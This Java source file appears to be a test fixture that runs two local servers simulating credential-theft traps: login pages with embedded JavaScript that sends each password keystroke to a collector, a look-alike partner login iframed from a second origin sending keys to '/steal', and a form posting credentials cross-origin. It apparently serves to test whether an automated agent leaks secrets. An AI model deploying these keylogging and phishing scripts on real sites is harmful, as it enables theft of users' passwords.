package dev.rover.samples.cli;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.URLDecoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;

/**
 * The attacker's playground of issue 10 on 127.0.0.1: a site (home origin) with a login that reports
 * every keystroke and its draft value to its own server, an account page that echoes the password,
 * a login whose only form is a look-alike in an iframe from another origin, and a login form that
 * posts to the other origin. The other origin (another port) serves the look-alike form, which sends
 * each keystroke home, and records every request it gets.
 */
final class TwoOriginSite implements AutoCloseable {

    /** One request the foreign origin received. */
    record Received(String method, String uri, String body) {
    }

    private final String username;
    private final String password;
    private final HttpServer home;
    private final HttpServer foreign;
    private final ExecutorService threads = Executors.newFixedThreadPool(4, r -> {
        Thread t = new Thread(r, "two-origin-site");
        t.setDaemon(true);
        return t;
    });
    private final List<Received> foreignRequests = new CopyOnWriteArrayList<>();
    private final List<String> keyReports = new CopyOnWriteArrayList<>();

    TwoOriginSite(String username, String password) throws IOException {
        this.username = username;
        this.password = password;
        home = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        foreign = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        home.createContext("/", this::home);
        foreign.createContext("/", this::foreign);
        home.setExecutor(threads);
        foreign.setExecutor(threads);
        home.start();
        foreign.start();
    }

    String homeOrigin() {
        return "http://127.0.0.1:" + home.getAddress().getPort();
    }

    String foreignOrigin() {
        return "http://127.0.0.1:" + foreign.getAddress().getPort();
    }

    /** Every request the foreign origin got, page loads included. */
    List<Received> foreignRequests() {
        return List.copyOf(foreignRequests);
    }

    /** What the keystroke reporter of the home login sent (query strings). */
    List<String> keyReports() {
        return List.copyOf(keyReports);
    }

    private void home(HttpExchange exchange) throws IOException {
        try (exchange) {
            String path = exchange.getRequestURI().getPath();
            switch (path) {
                case "/login" -> html(exchange, page("Acme sign in", loginForm("/session")
                        + "<script>const pw = document.getElementById('password');"
                        + " pw.addEventListener('keydown', e => fetch('/keys?key=' + encodeURIComponent(e.key)));"
                        + " pw.addEventListener('input', () => { fetch('/keys?value=' + encodeURIComponent(pw.value));"
                        + "   fetch('/keys?draft=' + encodeURIComponent(pw.value.slice(0, -1))); });</script>"
                        + "<iframe src=\"" + foreignOrigin() + "/partner-login\" width=\"420\" height=\"260\"></iframe>"));
                case "/framed-login" -> html(exchange, page("Acme sign in", "<p>Sign in through our partner below.</p>"
                        + "<iframe src=\"" + foreignOrigin() + "/partner-login\" width=\"420\" height=\"260\"></iframe>"));
                case "/cross-post" -> html(exchange, page("Acme sign in", loginForm(foreignOrigin() + "/collect")));
                case "/keys" -> {
                    keyReports.add(String.valueOf(exchange.getRequestURI().getRawQuery()));
                    text(exchange, 204, "");
                }
                case "/session" -> {
                    String form = URLDecoder.decode(new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8),
                            StandardCharsets.UTF_8);
                    if (form.contains("username=" + username) && form.contains("password=" + password)) {
                        exchange.getResponseHeaders().set("Location", "/account");
                        text(exchange, 303, "");
                    } else {
                        html(exchange, page("Acme sign in", "<p>Invalid username or password.</p>" + loginForm("/session")));
                    }
                }
                case "/account" -> html(exchange, page("Your account", "<h1>Welcome back</h1>"
                        + "<p id=\"echo\">So you do not forget: your password is " + password + "</p>"
                        + "<p id=\"hint\">It starts with " + password.substring(0, 8) + "</p>"));
                default -> text(exchange, 404, "not found");
            }
        }
    }

    private void foreign(HttpExchange exchange) throws IOException {
        try (exchange) {
            String body = new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8);
            foreignRequests.add(new Received(exchange.getRequestMethod(), exchange.getRequestURI().toString(), body));
            if (exchange.getRequestURI().getPath().equals("/partner-login")) {
                html(exchange, page("Partner sign in", "<form method=\"post\" action=\"/collect\">"
                        + "<label>Partner username <input name=\"partner_username\" id=\"pu\" type=\"text\"></label>"
                        + "<label>Partner password <input name=\"partner_password\" id=\"pp\" type=\"password\"></label>"
                        + "<button type=\"submit\">Sign in</button></form>"
                        + "<script>for (const f of document.querySelectorAll('input')) {"
                        + " f.addEventListener('keydown', e => fetch('/steal?key=' + encodeURIComponent(e.key)));"
                        + " f.addEventListener('input', () => fetch('/steal?value=' + encodeURIComponent(f.value))); }</script>"));
            } else {
                text(exchange, 204, "");
            }
        }
    }

    private static String loginForm(String action) {
        return "<form method=\"post\" action=\"" + action + "\">"
                + "<label>Username <input name=\"username\" id=\"username\" type=\"text\"></label>"
                + "<label>Password <input name=\"password\" id=\"password\" type=\"password\"></label>"
                + "<button type=\"submit\">Sign in</button></form>";
    }

    private static String page(String title, String body) {
        return "<!doctype html><html><head><meta charset=\"utf-8\"><title>" + title + "</title>"
                + "<style>body { font: 16px sans-serif; } label { display: block; margin: 6px; } p { margin: 8px; }</style>"
                + "</head><body>" + body + "</body></html>";
    }

    private static void html(HttpExchange exchange, String body) throws IOException {
        exchange.getResponseHeaders().set("Content-Type", "text/html; charset=utf-8");
        send(exchange, 200, body);
    }

    private static void text(HttpExchange exchange, int status, String body) throws IOException {
        exchange.getResponseHeaders().set("Content-Type", "text/plain; charset=utf-8");
        send(exchange, status, body);
    }

    private static void send(HttpExchange exchange, int status, String body) throws IOException {
        byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
        exchange.sendResponseHeaders(status, bytes.length == 0 ? -1 : bytes.length);
        if (bytes.length > 0) {
            try (OutputStream out = exchange.getResponseBody()) {
                out.write(bytes);
            }
        }
    }

    @Override
    public void close() {
        home.stop(0);
        foreign.stop(0);
        threads.shutdownNow();
    }
}
